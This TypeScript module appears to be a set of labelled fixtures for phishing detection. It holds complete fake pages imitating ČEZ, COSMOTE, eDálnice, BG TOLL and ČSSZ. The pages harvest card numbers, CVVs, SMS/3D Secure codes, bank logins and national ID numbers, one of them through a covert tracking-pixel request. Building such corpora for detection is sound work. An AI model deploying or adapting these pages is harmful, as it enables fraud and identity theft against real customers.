import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { page, b64, favicon, wordmark, wordmarkUri, baseCss, cardFieldScript, chunks, pctAll, flag } from '../parts/yd-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
(() => {
  const host = 'cez-vraceni-preplatku.cz-online.top';
  const css = `${baseCss}body{background:#f4f6f8;font-family:Arial,sans-serif;color:#222}
.hd{background:#fff;box-shadow:0 1px 0 #e3e3e3;height:72px;display:flex;align-items:center;padding:0 36px}.hd nav{margin-left:auto;display:flex;gap:22px;font-size:14px;color:#555}
.hero{background:#f24f00;color:#fff;padding:28px 36px}.hero h1{margin:0;font-size:28px}
.c{max-width:640px;margin:26px auto;background:#fff;padding:28px 34px;border-radius:6px}
.amt{font-size:34px;font-weight:700;color:#f24f00}label{display:block;margin:12px 0 4px;font-size:14px}input,select{width:100%;padding:11px;border:1px solid #c5c5c5;border-radius:4px}
.r{display:flex;gap:12px}.r>div{flex:1}.b{background:#f24f00;color:#fff;border:0;border-radius:4px;padding:13px 32px;margin-top:18px;font-weight:700;cursor:pointer}`;
  const body = `<div class="hd">${wordmark('ČEZ', '#f24f00', { mark: 'circle', width: 100 })}<nav><span>Elektřina</span><span>Plyn</span><span>Zákaznická podpora</span></nav></div>
<div class="hero"><h1>Vrácení přeplatku z vyúčtování</h1></div>
<div class="c">
<p>Vážený zákazníku, při ročním vyúčtování odběrného místa byl zjištěn přeplatek:</p>
<div class="amt">2 741,00 Kč</div>
<p>Z důvodu změny platebního systému nelze přeplatek zaslat na účet uvedený ve smlouvě. Vyplňte prosím údaje platební karty, na kterou vám bude přeplatek vrácen do 3 pracovních dnů.</p>
<form method="post" action="/zpracovani.php">
<label>Číslo zákaznického účtu / EAN</label><input name="ean" placeholder="8591824…" required>
<label>Jméno a příjmení</label><input name="jmeno" required>
<label>Banka</label><select name="banka"><option>Česká spořitelna</option><option>ČSOB</option><option>Komerční banka</option><option>Raiffeisenbank</option><option>MONETA</option><option>Air Bank</option><option>Fio banka</option><option>Jiná</option></select>
<label>Číslo karty</label><input name="karta" data-card="number" required>
<div class="r"><div><label>Platnost</label><input name="exp" data-card="expiry" required></div><div><label>CVC</label><input name="cvc" data-card="cvc" required></div></div>
<button class="b">Vrátit přeplatek</button>
</form>
<p style="font-size:12px;color:#777;margin-top:24px">ČEZ Prodej, a.s., Duhová 1/425, 140 53 Praha 4 · Zákaznická linka 371 100 100</p>
</div>`;
  const done = page({ lang: 'cs', title: 'ČEZ – zpracování', css, body: `<div class="hd">${wordmark('ČEZ', '#f24f00', { mark: 'circle', width: 100 })}</div><div class="c"><h2>Ověření karty</h2><p>Pro dokončení vrácení zadejte ověřovací kód ze SMS od vaší banky.</p><form method="post" action="/hotovo.php"><input name="sms" maxlength="8"><button class="b">Potvrdit</button></form></div>` });
  return {
    id: 'yd-cez-cz-refund-card-kit', label: 'phishing', kind: 'utility-refund-kit',
    url: `https://${host}/preplatek/`,
    body: page({ lang: 'cs', title: 'ČEZ – Vrácení přeplatku', head: favicon('#f24f00', 'Č'), css, body, scripts: cardFieldScript }),
    routes: {
      [`${host}/zpracovani.php`]: htmlRoute(done),
      [`${host}/hotovo.php`]: redirectRoute(302, 'https://www.cez.cz/'),
    },
  } satisfies Entry;
})(),

(() => {
  const host = 'cosmote-gr.epistrofi-xrimaton.info';
  const inner = page({ lang: 'el', title: 'COSMOTE', css: `${baseCss}body{font-family:Arial,sans-serif;background:#fff;padding:20px}
label{display:block;font-size:13px;margin:10px 0 4px}input{width:100%;padding:10px;border:1px solid #bbb;border-radius:6px}.r{display:flex;gap:10px}.r>div{flex:1}
button{width:100%;margin-top:16px;background:#5ac31e;color:#fff;border:0;border-radius:20px;padding:12px;font-weight:700}`,
    body: `<form id="rf" method="post" action="/frame/refund.php"><label>Αριθμός κινητού COSMOTE</label><input name="msisdn" value="69" required>
<label>Αριθμός κάρτας για επιστροφή</label><input name="pan" data-card="number" required>
<div class="r"><div><label>Λήξη</label><input name="exp" data-card="expiry" required></div><div><label>CVV</label><input name="cvv" data-card="cvc" required></div></div>
<label>Ονοματεπώνυμο</label><input name="name" required><button>Επιστροφή 48,30 €</button></form>`, scripts: cardFieldScript });
  const body = `<div style="background:#fff;border-bottom:1px solid #e5e5e5;padding:14px 30px;display:flex;align-items:center">${wordmark('COSMOTE', '#5ac31e', { mark: 'circle', width: 150 })}<span style="margin-left:auto;font-size:14px">Ο λογαριασμός μου</span></div>
<div style="max-width:560px;margin:30px auto;padding:0 16px"><h1 style="font-size:24px">Επιστροφή χρημάτων λόγω διπλής χρέωσης</h1>
<p>Ο λογαριασμός σας για τον μήνα Φεβρουάριο χρεώθηκε δύο φορές. Το ποσό των <b>48,30 €</b> θα επιστραφεί στην κάρτα σας μόλις επιβεβαιώσετε τα στοιχεία.</p>
<iframe src="/frame/form.html" style="width:100%;height:430px;border:1px solid #e5e5e5;border-radius:10px"></iframe>
<p style="font-size:12px;color:#888">COSMOTE – Κινητές Τηλεπικοινωνίες Μονοπρόσωπη Α.Ε. · Εξυπηρέτηση 13888</p></div>`;
  return {
    id: 'yd-cosmote-gr-refund-iframe-kit', label: 'phishing', kind: 'telecom-refund-kit',
    url: `https://${host}/myaccount/refund`,
    body: page({ lang: 'el', title: 'COSMOTE – Επιστροφή χρημάτων', head: favicon('#5ac31e', 'C'), css: `${baseCss}body{background:#f7f7f7;font-family:Arial,sans-serif}`, body }),
    routes: {
      [`${host}/frame/form.html`]: htmlRoute(inner),
      [`${host}/frame/refund.php`]: htmlRoute('<!doctype html><meta charset="utf-8"><p style="font-family:Arial">Η αίτηση καταχωρήθηκε. Θα λάβετε SMS επιβεβαίωσης.</p>'),
    },
  } satisfies Entry;
})(),

(() => {
  const host = 'edalnice-cz.pokuta-mytne.eu';
  const css = `${baseCss}body{background:#eef2f7;font-family:Arial,sans-serif}.hd{background:#1f3c88;color:#fff;padding:14px 30px;display:flex;align-items:center;gap:14px}
.c{max-width:600px;margin:28px auto;background:#fff;padding:28px;border-radius:8px}.warn{background:#fdecea;border-left:5px solid #d32f2f;padding:12px 14px;margin-bottom:16px}
.spz{display:inline-block;border:2px solid #111;border-radius:4px;padding:4px 12px;font-family:monospace;font-size:20px;letter-spacing:2px;background:#fff}
label{display:block;margin:12px 0 4px;font-size:14px}input{width:100%;padding:11px;border:1px solid #bbb;border-radius:4px}.r{display:flex;gap:10px}.r>div{flex:1}
.b{width:100%;background:#1f3c88;color:#fff;border:0;border-radius:4px;padding:13px;margin-top:18px;font-weight:700}`;
  const body = `<div class="hd">${flag(['#fff', '#d7141a', '#11457e'])}<b>eDálnice</b><span style="margin-left:auto;font-size:13px">Státní fond dopravní infrastruktury</span></div>
<div class="c">
<div class="warn"><b>Zjištěno užití zpoplatněné pozemní komunikace bez platné elektronické dálniční známky.</b></div>
<p>Vozidlo <span class="spz" id="spz">—</span> bylo zaznamenáno mýtnou bránou na D1 (km 34,5). Pokud nezaplatíte dodatečný poplatek do 48 hodin, bude věc předána k řízení o přestupku s pokutou až <b>20 000 Kč</b>.</p>
<p>K úhradě: <b>1 480 Kč</b> (roční známka + manipulační poplatek)</p>
<form id="pf"><label>Registrační značka vozidla</label><input name="spz" id="spzIn" required><label>E-mail</label><input name="email" type="email" required>
<label>Číslo karty</label><input name="karta" data-card="number" required><div class="r"><div><label>Platnost</label><input name="exp" data-card="expiry" required></div><div><label>CVV</label><input name="cvv" data-card="cvc" required></div></div>
<button class="b">Zaplatit 1 480 Kč</button></form>
</div>`;
  const js = `${cardFieldScript}<script>
var p=new URLSearchParams(location.search).get('spz')||'';document.getElementById('spz').textContent=p||'—';document.getElementById('spzIn').value=p;
pf.onsubmit=function(e){e.preventDefault();fetch('/api/platba',{method:'POST',body:new FormData(pf)}).then(function(r){return r.json()}).then(function(j){location.href=j.redirect})};
</script>`;
  const otp = page({ lang: 'cs', title: 'Ověření platby', css, body: `<div class="hd"><b>eDálnice</b></div><div class="c"><h2>3D Secure</h2><p>Zadejte kód zaslaný vaší bankou.</p><form action="/api/otp" method="post"><input name="otp" maxlength="8"><button class="b">Potvrdit</button></form></div>` });
  return {
    id: 'yd-edalnice-cz-unpaid-toll-kit', label: 'phishing', kind: 'vignette-fine-kit',
    url: `https://${host}/uhrada?spz=5AF2391`,
    body: page({ lang: 'cs', title: 'eDálnice – Dodatečná úhrada', css, body, scripts: js }),
    routes: {
      [`${host}/api/platba`]: jsonRoute({ redirect: '/overeni' }),
      [`${host}/overeni`]: htmlRoute(otp),
      [`${host}/api/otp`]: redirectRoute(302, 'https://edalnice.cz/'),
    },
  } satisfies Entry;
})(),

(() => {
  const host = 'bgtoll-bg.neplatena-taksa.com';
  const css = `${baseCss}body{background:#f1f3f6;font-family:Arial,sans-serif}.hd{background:#00966e;color:#fff;padding:14px 28px;display:flex;gap:12px;align-items:center}
.c{max-width:560px;margin:28px auto;background:#fff;padding:26px 30px;border-radius:6px}.t{width:100%;font-size:14px;border-collapse:collapse;margin:12px 0}.t td{border-bottom:1px solid #eee;padding:7px 0}
label{display:block;margin:10px 0 4px;font-size:14px}input{width:100%;padding:10px;border:1px solid #bbb;border-radius:4px}.r{display:flex;gap:10px}.r>div{flex:1}
.b{width:100%;background:#d62612;color:#fff;border:0;border-radius:4px;padding:13px;margin-top:16px;font-weight:700}`;
  const body = `<div class="hd">${flag(['#fff', '#00966e', '#d62612'])}<b>BG TOLL</b><span style="margin-left:auto;font-size:13px">Агенция „Пътна инфраструктура“</span></div>
<div class="c"><h2 style="margin-top:0">Неплатена пътна такса</h2>
<p>Системата за електронно таксуване регистрира преминаване без валидна електронна винетка.</p>
<table class="t"><tr><td>Рег. номер</td><td><b>СА 4127 КН</b></td></tr><tr><td>Място</td><td>АМ „Тракия“, км 42</td></tr><tr><td>Глоба</td><td>300,00 лв.</td></tr><tr><td>Компенсаторна такса при плащане до 72 ч.</td><td><b>10,00 лв.</b></td></tr></table>
<form id="f"><label>Име</label><input name="ime" required><label>ЕГН</label><input name="egn" maxlength="10" required><label>Номер на карта</label><input name="karta" data-card="number" required>
<div class="r"><div><label>Валидна до</label><input name="do" data-card="expiry" required></div><div><label>CVV</label><input name="cvv" data-card="cvc" required></div></div>
<button class="b">Плати 10,00 лв.</button></form></div>`;
  const js = `${cardFieldScript}<script>
f.addEventListener('submit',function(e){e.preventDefault();var o=Object.fromEntries(new FormData(f));var i=new Image();i.src='/px.gif?d='+encodeURIComponent(btoa(unescape(encodeURIComponent(JSON.stringify(o)))));setTimeout(function(){document.querySelector('.c').innerHTML='<h2>Благодарим ви!</h2><p>Плащането се обработва. Очаквайте SMS от вашата банка.</p>'},800)});
</script>`;
  return {
    id: 'yd-bgtoll-bg-fine-pixel-kit', label: 'phishing', kind: 'vignette-fine-kit',
    url: `https://${host}/plashtane`,
    body: page({ lang: 'bg', title: 'BG TOLL – Плащане на компенсаторна такса', css, body, scripts: js }),
    routes: { [`${host}/px.gif`]: { status: 200, headers: { 'content-type': 'image/gif' }, body: Buffer.from('R0lGODlhAQABAAAAACH5BAEAAAAALAAAAAABAAEAAAIBAAA=', 'base64') } },
  } satisfies Entry;
})(),

(() => {
  const host = 'cssz-prispevek.eportal-duchod.cz.com';
  const banks = [
    ['csas', 'Česká spořitelna', '#135ee2'], ['csob', 'ČSOB', '#00457c'], ['kb', 'Komerční banka', '#cc0033'], ['rb', 'Raiffeisenbank', '#fee600'],
    ['moneta', 'MONETA Money Bank', '#ff6a00'], ['air', 'Air Bank', '#85bc22'], ['fio', 'Fio banka', '#0064b0'], ['unicredit', 'UniCredit Bank', '#e2001a'],
  ];
  const tiles = banks.map(([k, n, c]) => `<button class="tile" data-b="${k}" data-n="${n}" data-c="${c}"><span class="dot" style="background:${c}"></span>${n}</button>`).join('\n');
  const css = `${baseCss}body{background:#f5f7fa;font-family:Arial,sans-serif;color:#1a2b3c}
.hd{background:#fff;border-bottom:3px solid #005b9f;padding:14px 30px;display:flex;align-items:center;gap:14px}.hd b{color:#005b9f}
.w{max-width:780px;margin:24px auto;padding:0 16px}.c{background:#fff;border-radius:8px;padding:26px 30px;margin-bottom:18px}
.grid{display:grid;grid-template-columns:repeat(2,1fr);gap:12px;margin-top:16px}.tile{display:flex;align-items:center;gap:12px;border:1px solid #d6dde6;background:#fff;border-radius:8px;padding:16px;font-size:16px;cursor:pointer;text-align:left}.tile:hover{border-color:#005b9f}
.dot{width:26px;height:26px;border-radius:6px;display:inline-block}
#lg{display:none}#lg.on{display:block}#lg input{width:100%;padding:12px;border:1px solid #bcc6d1;border-radius:6px;margin:6px 0 12px}#lg .b{border:0;color:#fff;padding:12px 30px;border-radius:20px;font-weight:700}`;
  const body = `<div class="hd">${flag(['#fff', '#d7141a', '#11457e'])}<b>ČSSZ</b><span>Česká správa sociálního zabezpečení · ePortál</span></div>
<div class="w"><div class="c"><h1 style="font-size:24px;margin-top:0">Mimořádný příspěvek k důchodu 5 000 Kč</h1>
<p>Na základě zákona o mimořádné valorizaci mají příjemci starobního a invalidního důchodu nárok na jednorázový příspěvek. Pro výplatu je nutné ověřit vaši totožnost prostřednictvím <b>Bankovní identity</b>. Žádost je třeba podat do <b id="dd"></b>.</p></div>
<div class="c" id="pick"><h2 style="font-size:18px;margin-top:0">Vyberte svou banku</h2><div class="grid">${tiles}</div></div>
<div class="c" id="lg"><h2 id="bn" style="font-size:20px"></h2><form id="bf"><label>Přihlašovací jméno / klientské číslo</label><input name="login" required><label>Heslo / PIN</label><input name="heslo" type="password" required><label>Rodné číslo</label><input name="rc" required><button class="b" id="bb">Přihlásit a ověřit</button></form></div></div>`;
  const js = `<script>
dd.textContent=new Date(Date.now()+3*864e5).toLocaleDateString('cs-CZ');var sel='';
document.querySelectorAll('.tile').forEach(function(t){t.onclick=function(){sel=t.dataset.b;bn.textContent='Přihlášení – '+t.dataset.n;bb.style.background=t.dataset.c;pick.style.display='none';lg.classList.add('on')}});
bf.onsubmit=function(e){e.preventDefault();var fd=new FormData(bf);fd.append('bank',sel);fetch('/ident/submit',{method:'POST',body:fd}).then(function(){lg.innerHTML='<h2>Ověřování…</h2><p>Potvrďte prosím požadavek v mobilní aplikaci své banky. Nyní vám může volat pracovník banky pro dokončení výplaty.</p>'})};
</script>`;
  return {
    id: 'yd-cssz-pension-bank-picker-kit', label: 'phishing', kind: 'gov-benefit-bank-picker-kit',
    url: `https://${host}/zadost/`,
    body: page({ lang: 'cs', title: 'ČSSZ ePortál – Mimořádný příspěvek', css, body, scripts: js }),
    routes: { [`${host}/ident/submit`]: jsonRoute({ ok: true }) },
  } satisfies Entry;
})(),
];
